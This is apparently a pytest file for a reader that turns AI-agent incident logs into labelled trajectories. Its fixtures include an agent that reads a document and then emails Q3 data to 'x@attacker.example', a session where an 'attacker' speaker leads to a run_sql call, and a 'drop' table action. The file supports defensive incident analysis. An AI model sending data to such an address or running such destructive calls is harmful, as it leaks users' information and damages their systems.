"""The seed incident reader: turns, actions, verdict fields and labels."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from incident_lab.readers.seed_incident import turn_verdict

from .conftest import accepted, read_all, rejected


def test_conversation_turns_actions_and_unsafe_steps(logs: Path) -> None:
    """An action is a tool call (+ result); the unsafe turn's tool call is labelled."""
    (traj,) = accepted(
        read_all("seed_incident", logs / "seed_incident" / "incident_0042.json")
    ).values()
    assert traj["session_id"] == "INC-2026-0042"
    steps = traj["steps"]
    assert [(s["type"], s.get("role") or s.get("name")) for s in steps] == [
        ("message", "user"),
        ("message", "assistant"),
        ("tool_call", "read_document"),
        ("tool_result", "read_document"),
        ("message", "assistant"),
        ("tool_call", "send_email"),
        ("tool_result", "send_email"),
        ("message", "assistant"),
    ]
    assert traj["labels"] == {"unsafe_steps": [5], "verdict": "unsafe"}
    assert steps[5]["arguments"] == {"to": "x@attacker.example", "body": "Q3..."}
    assert steps[6]["output"] == '{"status":"sent"}' and steps[6]["call_id"] == steps[5]["call_id"]
    assert traj["agent"]["model"] == {"name": "gpt-4o-2024-08-06"}
    assert [t["name"] for t in traj["agent"]["tools"]] == ["read_document", "send_email"]
    assert traj["started_at"] == "2026-02-01T12:00:03Z"
    assert traj["x_seed_incident"]["severity"] == "SEV-2"
    assert traj["x_seed_incident"]["environment"] == {"deployment": "prod-eu"}
    assert steps[0]["x_seed_incident"] == {"turn": 1, "status": "safe"}


def test_sessions_are_separate_trajectories_with_speaker_roles(logs: Path) -> None:
    """sessions[] -> one trajectory each; speaker names map to roles and are kept."""
    sessions = accepted(read_all("seed_incident", logs / "seed_incident" / "incidents_array.json"))
    assert set(sessions) == {"INC-2026-0051:a", "INC-2026-0051:b", "INC-2026-0052"}
    resisted, breached = sessions["INC-2026-0051:a"], sessions["INC-2026-0051:b"]
    assert resisted["labels"] == {"unsafe_steps": [0], "attack_steps": [0], "verdict": "safe"}
    assert breached["labels"] == {"unsafe_steps": [0, 1], "attack_steps": [0], "verdict": "unsafe"}
    assert breached["steps"][1]["name"] == "run_sql"
    assert breached["steps"][0]["x_seed_incident"]["speaker"] == "attacker"
    assert breached["actor"] == {"user_id": "u_2"}
    assert breached["agent"]["model"] == {"name": "claude-3-5-sonnet", "version": "20241022"}
    assert breached["source"]["entry"] == "[0]sessions[1]"
    assert sessions["INC-2026-0052"]["labels"]["verdict"] == "safe"


def test_jsonl_of_incidents_reads_every_line(logs: Path) -> None:
    """JSONL holding one incident per line keeps line numbers."""
    records = read_all("seed_incident", logs / "seed_incident" / "incidents.jsonl")
    assert [r.line for r in records] == [1, 2, 2, 3]
    assert all(r.accepted for r in records)


@pytest.mark.parametrize(
    ("turn", "expected"),
    [
        ({"status": "UNSAFE"}, "unsafe"),
        ({"status": "safe"}, "safe"),
        ({"violation": True}, "unsafe"),
        ({"compliant": False}, "unsafe"),
        ({"compliant": True}, "safe"),
        ({"is_attack": True}, "unsafe"),
        ({"status": "pending"}, None),
        ({}, None),
    ],
)
def test_turn_verdict_fields(turn: dict, expected: str | None) -> None:
    """status, violation, compliant (inverted) and is_attack all give a verdict."""
    assert turn_verdict(turn) == expected


def test_malformed_incidents_are_rejected_with_a_reason(tmp_path: Path) -> None:
    """No id, no turns, unknown speaker and a nameless action are each named."""
    rows = [
        {"conversation": []},
        {"incident_id": "a"},
        {"incident_id": "b", "conversation": [{"speaker": "narrator", "content": "x"}]},
        {
            "incident_id": "c",
            "conversation": [{"role": "assistant", "content": "x", "action": {"params": {}}}],
        },
        {"incident_id": "d", "conversation": [{"role": "assistant", "content": "fine"}]},
    ]
    path = tmp_path / "i.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    records = read_all("seed_incident", path)
    reasons = [r.reason for r in rejected(records)]
    assert [r.line for r in rejected(records)] == [1, 2, 3, 4]
    assert "incident_id" in reasons[0] and "no turns" in reasons[1]
    assert "narrator" in reasons[2] and "tool name" in reasons[3]
    assert set(accepted(records)) == {"d"}


def test_tool_turns_silent_actions_and_their_extra_fields(tmp_path: Path) -> None:
    """A ``tool`` turn is a tool result; an action without text has no message, so the
    turn's unmapped fields ride on its tool call with the action's own extras; the call id
    defaults to the turn number; a non-object turn rejects the incident."""
    incident = {
        "incident_id": "e",
        "conversation": [
            {"role": "tool", "content": {"rows": 2}, "source": "db"},
            {
                "role": "agent",
                "action": {"tool": "drop", "params": {"t": "x"}, "retry": 1},
                "note": "silent",
                "status": "unsafe",
            },
        ],
    }
    path = tmp_path / "i.jsonl"
    path.write_text(json.dumps(incident) + "\n" + json.dumps({"incident_id": "f", "turns": [3]}))
    records = read_all("seed_incident", path)
    (traj,) = accepted(records).values()
    result, call = traj["steps"]
    assert result == {
        "type": "tool_result",
        "call_id": None,
        "output": '{"rows":2}',
        "x_seed_incident": {"source": "db"},
    }
    assert call["type"] == "tool_call" and call["call_id"] == "turn-1"
    assert call["x_seed_incident"] == {
        "retry": 1,
        "turn": {"note": "silent", "status": "unsafe", "speaker": "agent"},
    }
    assert traj["labels"] == {"unsafe_steps": [1], "verdict": "unsafe"}
    [bad] = rejected(records)
    assert bad.line == 2 and bad.reason.endswith("turn 0 is not an object")
